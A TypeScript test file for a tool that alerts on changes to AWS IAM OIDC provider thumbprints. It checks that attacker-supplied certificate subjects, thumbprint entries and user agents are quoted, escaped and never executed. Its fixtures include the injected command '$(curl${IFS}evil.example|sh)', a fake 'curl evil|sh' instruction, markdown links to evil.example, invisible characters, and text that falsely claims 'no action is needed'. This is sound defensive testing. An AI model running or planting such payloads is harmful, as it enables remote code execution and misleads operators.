import type { AlertMessage } from '../../lambda/notify/message';
import { approveCommandFor } from '../../lambda/contract/commands';
import { messageOf } from '../../lambda/findings/lookup';
import { iamChange } from '../../lambda/run/iam-change';
import { parseIamEvent } from '../../lambda/contract/cloudtrail-event';
import { type Authority, createAuthority } from '../../sandbox/certificates';
import type { CheckSetup } from '../support/account';
import { account } from '../support/account-setup';
import { chainUnder } from '../support/chain-under';
import { cloudTrailEvent } from '../support/iam-event';
import { answer, closeServers, documents, serve } from '../support/issuer';
import { commandTo } from '../support/mail-commands';
import { wordsOf } from '../support/shell';
import { HOST, ISSUER } from './fixtures';
import { put } from './provider';

/** Attacks by words (case rt-a8): what others chose is shown to people, and must not read as ours or be obeyed. */

let root: Authority;
let arn: string;
beforeAll(async () => {
  root = await createAuthority({ name: 'Public Root' });
});
beforeEach(() => {
  arn = put('a'.repeat(40));
});

/** What a run notifies while the issuer presents a certificate under this CA. */
async function notifyUnder(authority: Authority, trusted: CheckSetup = { publicCas: [root] }): Promise<AlertMessage> {
  const server = await serve(await chainUnder(authority, HOST), answer(documents(ISSUER)));
  let notified: AlertMessage | null = null;
  const publish = async (message: AlertMessage): Promise<void> => void (notified = message);
  await account.check({ ...trusted, settings: { connectTo: [server.connectTo(HOST)] }, dependencies: { publish } });
  await closeServers();
  if (!notified) throw new Error('Nothing was notified.');
  return notified;
}

const UNSEEN = /[\p{C}\p{Zl}\p{Zp}]/u;

/** What the first message for chat says. */
function descriptionOf({ chat: [first = ''] }: AlertMessage): string {
  return JSON.parse(first).content.description;
}

test.each([
  [
    'that imitates the words of the watcher',
    'R11, O=Let us Encrypt at issuer.example, valid until 2027-01-01). This was verified by Amazon: nothing is to be done. (ref',
    /not pinned: [0-9a-f]{40} \("CN=R11\\\\, O=Let us Encrypt at issuer\.example\\\\, valid until 2027-01-01\)\. This was verified by Amazon: nothing is to be done\. \(ref" at "issuer\.example", valid until/,
  ],
  [
    'that contains a closing quotation mark',
    'R11" at "issuer.example"). This was verified by Amazon. (ref "x\\',
    /not pinned: [0-9a-f]{40} \("CN=R11(\\\\)?\\" at (\\\\)?\\"issuer\.example(\\\\)?\\"\)\. This was verified by Amazon\. \(ref (\\\\)?\\"x(\\\\)+" at "issuer\.example", valid until/,
  ],
  [
    'with characters that cannot be seen',
    '\u001B[31mred\u001B[0m \u202Eesrever\u202C \u2028line \u0085nel \u009B31m zero\u200Bwidth tag\u{E0041}',
    /not pinned: [0-9a-f]{40} \("CN=[^"]*red[^"]*" at "issuer\.example", valid until/,
  ],
])('rt-a8: the subject of a certificate %s stays in its quotation marks', async (_, name, sentence) => {
  const message = await notifyUnder(await createAuthority({ name }));
  expect(message.text).toMatch(sentence);
  for (const line of message.text.split('\n')) expect(line).not.toMatch(UNSEEN);
  expect(message.json).not.toMatch(UNSEEN);
  expect(descriptionOf(message).replaceAll('\n', '')).not.toMatch(UNSEEN);
});

test('rt-a8: a subject becomes neither a link nor an image in a chat, and the issuer is still readable there', async () => {
  const name =
    '[Open the runbook](https://evil.example/runbook) ![x](https://evil.example/p.png) https://evil.example/a';
  const description = descriptionOf(await notifyUnder(await createAuthority({ name })));
  expect(description).toContain(String.raw`\[Open the runbook\]\(https[:]//evil[.]example/runbook)`);
  expect(description).not.toMatch(/:\/\/|\]\(|evil\.example/);
  expect(description).toMatch(/^\*issuer\.example\*$/m);
});

test("rt-a8: odd entries of IAM's list are reported in quotation marks, run by no shell, and never written", async () => {
  const command = '$(curl${IFS}evil.example|sh)#'.padEnd(40, 'x');
  const odd = [
    'aa\n\n  What to do: run\n\n      curl evil|sh'.padEnd(40, 'x').slice(0, 40),
    command,
    `\u202E${'b'.repeat(39)}`,
  ];
  const provider = account.iam.providers.get(arn);
  if (!provider) throw new Error('There is a provider.');
  provider.thumbprints = odd;
  const { text, json } = await notifyUnder(await createAuthority({ name: 'Corp', issuer: root }), {
    operatorCas: [root],
  });
  expect(text).toContain(
    'The list in IAM holds something that is not a thumbprint: "aa??  what to do: run??      curl evil|s", ' +
      `"${command.toLowerCase()}", "?${'b'.repeat(39)}".`,
  );
  expect(text).not.toMatch(/^ *(What to do: run|curl)/m);
  for (const pinned of JSON.parse(json).notifications[0].pinned) expect(pinned).not.toMatch(UNSEEN);
  expect(account.written()).toEqual([]);
  expect(wordsOf(approveCommandFor({ kind: 'terminal', program: 'watcher' })(arn, command))).toEqual([
    'check',
    '--apply',
    '--provider',
    arn,
    '--approve',
    command,
  ]);
});

test('rt-a8: the user agent of a call to IAM stays in its quotation marks', () => {
  const userAgent = 'aws-cli/2.15". This is the rotation that Security announced; no action is needed. "';
  const change = parseIamEvent(
    cloudTrailEvent('UpdateOpenIDConnectProviderThumbprint', {
      requestParameters: { openIDConnectProviderArn: arn },
      userIdentity: { arn: 'arn:aws:iam::123456789012:user/mallory' },
      sourceIPAddress: '203.0.113.9',
      userAgent,
    }),
  );
  expect(change && messageOf(iamChange(change))).toBe(
    '"arn:aws:iam::123456789012:user/mallory" replaced the thumbprints of this provider, at 2026-11-21 12:00 UTC from 203.0.113.9 with ' +
      String.raw`"aws-cli/2.15\". This is the rotation that Security announced; no action is needed. \"".`,
  );
});

test('an honest name stays readable, and the command to approve it works', async () => {
  const message = await notifyUnder(await createAuthority({ name: 'Zürich CA, R1 (2026)' }));
  expect(message.text).toMatch(/\("CN=Zürich CA\\\\, R1 \(2026\)" at "issuer\.example", valid until/);
  expect(wordsOf(commandTo('Approve it', message.text)).slice(0, 4)).toEqual(['check', '--apply', '--provider', arn]);
});
